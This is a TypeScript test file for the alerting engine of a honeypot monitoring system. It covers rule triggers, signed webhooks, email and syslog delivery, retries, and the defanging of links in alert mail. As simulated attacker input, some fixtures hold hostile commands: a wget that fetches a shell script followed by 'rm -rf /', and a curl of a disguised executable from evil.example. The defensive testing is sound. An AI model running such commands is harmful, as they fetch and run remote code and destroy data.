/** Alerts on the real engine, delivered to a real mail server, a receiver of webhooks and of syslog, all on loopback. */
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import type { AlertCondition, AlertMessage } from '@apiary/model/api/alerts.ts';
import { SMTPServer } from 'smtp-server';
import {
  listAlerts,
  putChannel,
  putRule,
  putSchedule,
  queueMessage,
  removeAlertPart,
} from '../state/alerts.ts';
import { StateDatabase } from '../state/database.ts';
import { migrate } from '../store/schema.ts';
import { Store } from '../store/store.ts';
import { AlertKeeper } from './alert-keeper.ts';
import { harmless, signBody } from './deliver.ts';
import { nextDue } from './due.ts';

const secret = 'a secret of this test';
const minute_ms = 60_000;

describe('alerts', { timeout: 120_000 }, () => {
  const root = mkdtempSync(join(tmpdir(), 'apiary-alerts-'));
  const mails: string[] = [];
  const hooks: { body: AlertMessage; is_signed: boolean }[] = [];
  const lines: string[] = [];
  let refuse_hooks = 0;
  let refuse_mail = false;
  let refused_recipient = '';
  let store: Store;
  let state: StateDatabase;
  let keeper: AlertKeeper;
  let now_ms = Date.UTC(2026, 5, 1, 12);
  let waits = false;
  let next_id = 1;

  const smtp = new SMTPServer({
    disabledCommands: ['STARTTLS'],
    onAuth: ({ username, password }, _session, done) =>
      username === 'apiary' && password === 'mail secret' && !refuse_mail
        ? done(null, { user: username })
        : done(new Error('wrong name or password')),
    onRcptTo: ({ address }, _session, done) =>
      done(address === refused_recipient ? new Error('greylisted, try again') : null),
    onData: (stream, _session, done) => {
      let text = '';
      stream.on('data', (chunk: Buffer) => {
        text += chunk.toString('utf8');
      });
      stream.on('end', () => {
        mails.push(text);
        done();
      });
    },
  });
  const web = createServer((request, response) => {
    let text = '';
    request.on('data', (chunk: Buffer) => {
      text += chunk.toString('utf8');
    });
    request.on('end', () => {
      if (refuse_hooks > 0) {
        refuse_hooks -= 1;
        response.writeHead(503).end();
        return;
      }
      const time = String(request.headers['x-apiary-timestamp']);
      hooks.push({
        body: JSON.parse(text) as AlertMessage,
        is_signed: request.headers['x-apiary-signature'] === signBody(secret, time, text),
      });
      response.end();
    });
  });
  const udp = createSocket('udp4', (message) => lines.push(message.toString('utf8')));
  const tcp = createTcpServer((socket) => socket.on('data', (chunk) => lines.push(chunk.toString('utf8'))));

  before(async () => {
    store = new Store({ directory: join(root, 'engine') });
    await store.whenUp();
    await migrate(store, []);
    await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', () => resolve()));
    await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', () => resolve()));
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', () => resolve()));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', () => resolve()));
  });
  after(async () => {
    await store.close();
    await new Promise<void>((resolve) => smtp.close(() => resolve()));
    web.close();
    tcp.close();
    udp.close();
    rmSync(root, { recursive: true });
  });

  beforeEach(() => {
    state = new StateDatabase(':memory:');
    state.run("INSERT INTO sensor (sensor_id, name, type, created_ms) VALUES (1, 'ssh-1', 'test', 0)");
    for (const list of [mails, hooks, lines]) list.length = 0;
    now_ms += 24 * 60 * minute_ms;
    keeper = new AlertKeeper({
      store,
      state,
      mail: () => ({
        host: '127.0.0.1',
        port: (smtp.server.address() as AddressInfo).port,
        tls: false,
        from: 'apiary@hive.example',
        user: 'apiary',
        password: 'mail secret',
      }),
      isWaiting: () => waits,
      makeReport: async ({ address }) => ({
        name: 'r.csv',
        type: 'text/csv',
        bytes: Buffer.from(`of ${address}`),
      }),
      log: () => undefined,
      now_ms: () => now_ms,
      whole_ms: 1000,
    });
    const { port } = web.address() as AddressInfo;
    putChannel(state, 'test', null, {
      name: 'hook',
      target: { kind: 'webhook', url: `http://127.0.0.1:${port}/x`, secret },
    });
    putChannel(state, 'test', null, { name: 'mail', target: { kind: 'email', to: ['csirt@hive.example'] } });
  });

  const land = async (fields: {
    username?: string;
    command?: string;
    at_ms?: number;
    count?: number;
  }): Promise<void> => {
    const { username = '', command = '', at_ms = now_ms - 1000, count = 1 } = fields;
    const id = next_id;
    next_id += count;
    await store.command(
      `INSERT INTO event (event_id, sensor_id, sensor_type, sensor_table, segment_id, detect_ts, collect_ts, action, service, attacker_ip, username, command)
       SELECT ${id} + number, 1, 'test', 'test_lines', ${BigInt(at_ms) * 1000n}, fromUnixTimestamp64Milli(${at_ms}, 'UTC'), fromUnixTimestamp64Milli(${at_ms}, 'UTC'), 'input', 'ssh',
         toIPv6('::ffff:198.51.100.7'), unhex('${Buffer.from(username).toString('hex')}'), unhex('${Buffer.from(command).toString('hex')}') FROM numbers(${count})`,
    );
  };
  const addRule = (condition: AlertCondition, group_minutes = 60, channels = [1]): number =>
    putRule(
      state,
      'test',
      null,
      { name: `rule ${listAlerts(state).rules.length}`, condition, channels, group_minutes, enabled: true },
      now_ms,
    );
  const pass = async (ms: number): Promise<void> => {
    now_ms += ms;
    await keeper.look();
  };

  test('each event is told once, and a flood is one message', async () => {
    addRule({ kind: 'events', q: 'command:*wget*', more_than: 0, minutes: 1 });
    await land({ command: 'wget before anybody looked', at_ms: now_ms - 10_000 });
    await pass(0);
    assert.equal(hooks.length, 0, 'what was there before the rule is not told');
    await pass(10_000);
    await land({ command: 'wget http://203.0.113.9/x.sh; rm -rf /\u0007' });
    await land({ command: 'ls' });
    await pass(10_000);
    await pass(10_000);
    assert.equal(hooks.length, 1);
    const [{ body, is_signed }] = hooks as [(typeof hooks)[0]];
    assert.equal(is_signed, true);
    assert.deepEqual([body.count, body.lines.length, body.rule], [1, 1, 'rule 0']);
    assert.match(body.lines[0]!, /ssh-1: input ssh from 198\.51\.100\.7 wget http/);
    for (let round = 0; round < 6; round += 1) {
      await land({ command: 'wget again', count: 500 });
      await pass(8 * minute_ms);
    }
    assert.equal(hooks.length, 1, 'all within the hour wait');
    await pass(13 * minute_ms);
    assert.equal(hooks.length, 2);
    assert.equal(hooks[1]!.body.count, 3000);
    await pass(61 * minute_ms);
    await land({ command: 'wget after the storm' });
    await pass(10_000);
    assert.equal(hooks.length, 3, 'after a quiet hour the next is told at once');
  });

  test('more than so many within minutes', async () => {
    addRule({ kind: 'events', q: 'service:ssh', more_than: 10, minutes: 5 });
    await pass(0);
    await land({ count: 10 });
    await pass(10_000);
    assert.equal(hooks.length, 0);
    await land({ count: 5 });
    await pass(10_000);
    assert.match(hooks[0]?.body.lines[0] ?? '', /^15 events within 5 min, more than 10$/);
  });

  test('the first of its kind, and never again, whatever waits meanwhile', async () => {
    await land({ username: 'old-user', at_ms: now_ms - 3_600_000 });
    addRule({ kind: 'first_seen', column: 'username', q: '' });
    await pass(0);
    await land({ username: 'old-user' });
    await land({ username: 'new-user' });
    waits = true;
    await pass(10_000);
    assert.equal(hooks.length, 0, 'nothing is settled yet');
    waits = false;
    await pass(10_000);
    assert.deepEqual(
      hooks.map(({ body }) => body.lines),
      [['username never seen before: new-user']],
    );
    await land({ username: 'new-user' });
    await pass(2 * 60 * minute_ms);
    assert.equal(hooks.length, 1);
  });

  test('a sensor that falls silent is told, and again when it does so anew', async () => {
    addRule({ kind: 'sensor_silent', minutes: 60 }, 1);
    const report = (changed_ms: number): void => {
      state.run(
        'INSERT OR REPLACE INTO sensor_health (sensor_id, received_ms, body) VALUES (1, ?, ?)',
        now_ms,
        JSON.stringify({
          name: 'ssh-1',
          condition: 'quiet',
          detail: '',
          source_changed_ms: changed_ms,
          oldest_waiting_ms: null,
          waiting_records: 0,
          waiting_bytes: 0,
          read: 1,
          acknowledged: 1,
          cut: 0,
          lost: 0,
          refused: 0,
        }),
      );
    };
    report(now_ms - 30 * minute_ms);
    await pass(0);
    assert.equal(hooks.length, 0);
    report(now_ms - 61 * minute_ms);
    await pass(1000);
    await pass(2 * minute_ms);
    assert.equal(hooks.length, 1);
    assert.match(hooks[0]!.body.lines[0]!, /^sensor ssh-1 is \w+: nothing new since/);
    report(now_ms);
    await pass(5 * minute_ms);
    report(now_ms - 70 * minute_ms);
    await pass(1000);
    assert.equal(hooks.length, 2);
  });

  test('incidents by how far they got, and notices of the server, each once', async () => {
    await store.command(
      `INSERT INTO incident (incident_id, pass, is_gone, sensor_id, number, first_ts, last_ts, attacks, events, sources, services, stage, attacker)
       VALUES (1, 1, 0, 1, 7, fromUnixTimestamp64Milli(${now_ms - 1000}), fromUnixTimestamp64Milli(${now_ms - 1000}), 3, 9, 1, ['ssh'], 'acted', 'unknown'),
              (2, 1, 0, 1, 8, fromUnixTimestamp64Milli(${now_ms - 1000}), fromUnixTimestamp64Milli(${now_ms - 1000}), 1, 1, 1, ['ssh'], 'probed', 'unknown')`,
    );
    addRule({ kind: 'incident', stage: 'got in' }, 1);
    addRule({ kind: 'notice' }, 1);
    state.run(
      "INSERT INTO alert (kind, subject, message, first_ms, last_ms) VALUES ('k', 'collector pot-1', 'its certificate is on two hosts', ?, ?)",
      now_ms,
      now_ms,
    );
    await pass(1000);
    await pass(5 * minute_ms);
    assert.deepEqual(hooks.flatMap(({ body }) => body.lines).sort(), [
      'collector pot-1: its certificate is on two hosts',
      'incident #7: acted; 3 attacks of 1 sources against ssh',
    ]);
    await store.command(
      `INSERT INTO incident (incident_id, pass, is_gone, sensor_id, number, first_ts, last_ts, attacks, events, sources, services, stage, attacker)
       VALUES (1, 2, 0, 1, 7, fromUnixTimestamp64Milli(${now_ms - 1000}), fromUnixTimestamp64Milli(${now_ms - 1000}), 4, 12, 2, ['ssh'], 'spread from here', 'unknown')`,
    );
    await pass(1000);
    assert.match(hooks.at(-1)!.body.lines[0]!, /#7: spread from here/, 'it got farther');
  });

  test('mail comes with what was found, and nothing in it is a link', async () => {
    addRule({ kind: 'events', q: '', more_than: 0, minutes: 1 }, 60, [2]);
    await pass(0);
    await land({ command: 'curl http://evil.example/\u202egnp.exe' });
    await pass(10_000);
    assert.equal(mails.length, 1);
    const text = mails[0]!.replaceAll('=\r\n', '');
    assert.match(text, /From: apiary@hive\.example/);
    assert.match(text, /Subject: Apiary: rule 0/);
    assert.match(text, /hxxp:\/\/evil\[\.\]example/);
    assert.equal(/http:\/\/evil/.test(text), false);
    assert.equal(
      harmless('a\u0007\u202eb http://x.example.org ftp://y'),
      'a\ufffd\ufffdb hxxp://x[.]example[.]org fxp://y',
    );
    assert.equal(
      harmless('www.пример.рф file://198.51.100.7/x smb://a \u061c\u2060 10.5 s'),
      'www[.]пример[.]рф file[:]//198.51.100.7/x smb[:]//a \ufffd\ufffd 10.5 s',
    );
  });

  test('what cannot be delivered is tried again, tells why, and ends', async () => {
    refuse_hooks = 1;
    addRule({ kind: 'events', q: '', more_than: 0, minutes: 1 });
    await pass(0);
    await land({});
    await pass(10_000);
    assert.match(listAlerts(state).messages[0]!.error, /answered 503/);
    await pass(31_000);
    assert.equal(hooks.length, 1);
    assert.notEqual(listAlerts(state).messages[0]!.done_ms, null);
    refuse_mail = true;
    queueMessage(
      state,
      2,
      { subject: 's', time: '2026-06-01T00:00:00Z', rule: 'r', count: 1, lines: [] },
      now_ms,
    );
    for (let round = 0; round < 12; round += 1) await pass(61 * minute_ms);
    refuse_mail = false;
    const [message] = listAlerts(state).messages;
    assert.match(message!.error, /given up$/);
    assert.equal(message!.tries, 10);
  });

  test('syslog, over both', async () => {
    for (const [index, [transport, { port }]] of (
      [
        ['udp', udp.address() as AddressInfo],
        ['tcp', tcp.address() as AddressInfo],
      ] as const
    ).entries()) {
      putChannel(state, 'test', null, {
        name: `log ${transport}`,
        target: { kind: 'syslog', host: '127.0.0.1', port, transport },
      });
      queueMessage(
        state,
        3 + index,
        {
          subject: 'Apiary: x',
          time: '2026-06-01T00:00:00.000Z',
          rule: 'x',
          count: 1,
          lines: ['two\nlines'],
        },
        now_ms,
      );
    }
    await pass(0);
    for (let wait = 0; lines.length < 2 && wait < 100; wait += 1)
      await new Promise((resolve) => setTimeout(resolve, 20));
    const frame = /<132>1 2026-06-01T00:00:00\.000Z \S+ apiary - alert - Apiary: x \| two\ufffdlines$/;
    assert.deepEqual(
      lines.map((line) => frame.test(line)),
      [true, true],
    );
    const counted = lines.find((line) => !line.startsWith('<'))!;
    assert.equal(Number(counted.split(' ')[0]), Buffer.byteLength(counted.slice(counted.indexOf(' ') + 1)));
  });

  const message: AlertMessage = {
    ...{ subject: 'Apiary: x', time: '2026-06-01T00:00:00.000Z', rule: 'x', count: 1, lines: [] },
  };

  test('whom the mail server refuses is tried again, alone, and told of', async () => {
    const to = ['csirt@hive.example', 'late@hive.example'];
    putChannel(state, 'test', null, { name: 'both', target: { kind: 'email', to } });
    queueMessage(state, 3, message, now_ms);
    refused_recipient = 'late@hive.example';
    await pass(0);
    assert.equal(mails.length, 1);
    const [waiting] = listAlerts(state).messages;
    assert.equal(waiting!.done_ms, null);
    assert.match(waiting!.error, /did not take it for late@hive\.example/);
    refused_recipient = '';
    await pass(31_000);
    assert.equal(mails.length, 2);
    assert.match(mails[1]!, /To: late@hive\.example\r\n/);
    const [told] = listAlerts(state).messages;
    assert.deepEqual([told!.done_ms, told!.error], [now_ms, '']);
  });

  test('who answers a little, again and again, holds nobody up', async () => {
    const timers: NodeJS.Timeout[] = [];
    const slow = createTcpServer((socket) => {
      socket.on('error', () => undefined);
      socket.write('220 mail.hive.example\r\n');
      timers.push(setInterval(() => socket.write('250-and more\r\n'), 50));
    });
    await new Promise<void>((resolve) => slow.listen(0, '127.0.0.1', () => resolve()));
    const { port } = slow.address() as AddressInfo;
    keeper = new AlertKeeper({
      ...{ store, state, isWaiting: () => waits, log: () => undefined, now_ms: () => now_ms, whole_ms: 500 },
      mail: () => ({ host: '127.0.0.1', port, tls: false, from: 'apiary@hive.example' }),
      makeReport: () => Promise.reject(new Error('none is due')),
    });
    queueMessage(state, 2, message, now_ms);
    queueMessage(state, 2, message, now_ms);
    queueMessage(state, 1, message, now_ms);
    const looked = keeper.look();
    for (let wait = 0; hooks.length === 0 && wait < 20; wait += 1)
      await new Promise((resolve) => setTimeout(resolve, 20));
    assert.equal(hooks.length, 1, 'the webhook waited for the mail');
    await looked;
    for (const timer of timers) clearInterval(timer);
    slow.close();
    const told = listAlerts(state).messages.map(({ channel, tries, error }) => [channel, tries, error]);
    assert.deepEqual(told, [
      ['hook', 1, ''],
      ['mail', 0, ''],
      ['mail', 1, '127.0.0.1 had not taken it after 0.5 s'],
    ]);
  });

  test('a webhook that sends elsewhere or says nothing is told, and goes nowhere else', async () => {
    const { port } = web.address() as AddressInfo;
    const odd = createServer((request, response) => {
      if (request.url === '/elsewhere')
        response.writeHead(307, { location: `http://127.0.0.1:${port}/x` }).end();
    });
    await new Promise<void>((resolve) => odd.listen(0, '127.0.0.1', () => resolve()));
    for (const [index, path] of ['elsewhere', 'silent'].entries()) {
      const url = `http://127.0.0.1:${(odd.address() as AddressInfo).port}/${path}`;
      putChannel(state, 'test', null, { name: path, target: { kind: 'webhook', url, secret } });
      queueMessage(state, 3 + index, message, now_ms);
    }
    await pass(0);
    odd.closeAllConnections();
    odd.close();
    assert.equal(hooks.length, 0);
    const told = listAlerts(state).messages;
    assert.deepEqual(
      told.map(({ channel, tries, done_ms }) => [channel, tries, done_ms]),
      [
        ['silent', 1, null],
        ['elsewhere', 1, null],
      ],
    );
    assert.match(told[0]!.error, /timeout/);
    assert.match(told[1]!.error, /failed/);
  });

  test('a receiver of syslog that answers has it', async () => {
    const talking = createTcpServer((socket) =>
      socket.once('data', (chunk) => {
        lines.push(chunk.toString('utf8'));
        socket.write('thanks\n');
      }),
    );
    await new Promise<void>((resolve) => talking.listen(0, '127.0.0.1', () => resolve()));
    const { port } = talking.address() as AddressInfo;
    putChannel(state, 'test', null, {
      name: 'log',
      target: { kind: 'syslog', host: '127.0.0.1', port, transport: 'tcp' },
    });
    queueMessage(state, 3, message, now_ms);
    await pass(0);
    talking.close();
    assert.equal(lines.length, 1);
    assert.deepEqual(
      listAlerts(state).messages.map(({ tries, error }) => [tries, error]),
      [[1, '']],
    );
  });

  test('a rule that cannot be looked at says why, and the others go on', async () => {
    addRule({ kind: 'events', q: 'sensor:gone-by-now', more_than: 0, minutes: 1 });
    addRule({ kind: 'events', q: '', more_than: 0, minutes: 1 });
    await pass(0);
    await land({});
    await pass(10_000);
    assert.equal(hooks.length, 1);
    assert.match(listAlerts(state).rules[0]!.trouble, /there is no sensor "gone-by-now"/);
    assert.throws(() => removeAlertPart(state, 'test', 'alert_channel', 1), /is used by rule 0, rule 1/);
    putSchedule(
      state,
      'test',
      null,
      {
        ...{ name: 'daily', address: '/reports/global/passwords', format: 'csv', every: 'day', hour: 6 },
        channel_id: 2,
      },
      now_ms,
    );
    assert.throws(() => removeAlertPart(state, 'test', 'alert_channel', 2), /is used by daily/);
  });

  test('what a rule missed while it could not be looked at is told when it can, once', async () => {
    addRule({ kind: 'events', q: 'sensor:comes-later or command:missed', more_than: 0, minutes: 1 });
    await pass(0);
    await land({ command: 'missed' });
    await pass(10_000);
    await pass(10_000);
    assert.match(listAlerts(state).rules[0]!.trouble, /there is no sensor "comes-later"/);
    state.run(
      "INSERT INTO sensor (sensor_id, name, type, created_ms) VALUES (99, 'comes-later', 'cowrie', 0)",
    );
    await pass(10_000);
    await pass(10_000);
    assert.deepEqual(
      hooks.map(({ body }) => body.count),
      [1],
    );
    assert.equal(listAlerts(state).rules[0]!.trouble, '');
  });

  test('a report goes out when it is due, and knows when it is due next', async () => {
    const monday = Date.UTC(2026, 5, 1, 6);
    assert.equal(
      new Date(nextDue({ every: 'week', hour: 6 }, monday)).toISOString(),
      '2026-06-08T06:00:00.000Z',
    );
    assert.equal(
      new Date(nextDue({ every: 'day', hour: 7 }, monday)).toISOString(),
      '2026-06-01T07:00:00.000Z',
    );
    assert.equal(
      new Date(nextDue({ every: 'month', hour: 0 }, monday)).toISOString(),
      '2026-07-01T00:00:00.000Z',
    );
    const form = {
      name: 'weekly',
      address: '/reports/global/sources?last=7d',
      format: 'csv',
      every: 'day',
      hour: 6,
      channel_id: 2,
    } as const;
    assert.throws(
      () => putSchedule(state, 'test', null, { ...form, channel_id: 1 }, 0),
      /a report goes out by mail/,
    );
    putSchedule(state, 'test', null, form, now_ms + 1000);
    await pass(0);
    assert.equal(mails.length, 0);
    await pass(2000);
    await pass(2000);
    assert.equal(mails.length, 1);
    assert.match(mails[0]!, /filename=r\.csv/);
    assert.ok(mails[0]!.includes(Buffer.from('of /reports/global/sources?last=7d').toString('base64')));
    assert.ok(listAlerts(state).schedules[0]!.next_ms > now_ms);
  });
});
